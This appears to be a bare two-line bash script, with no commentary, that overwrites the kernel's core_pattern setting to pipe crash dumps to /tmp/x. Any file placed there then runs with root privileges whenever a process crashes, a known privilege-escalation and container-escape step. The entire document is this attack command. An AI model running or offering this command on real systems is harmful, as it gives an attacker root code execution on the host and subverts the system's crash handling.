#!/bin/bash
echo '|/tmp/x' > /proc/sys/kernel/core_pattern
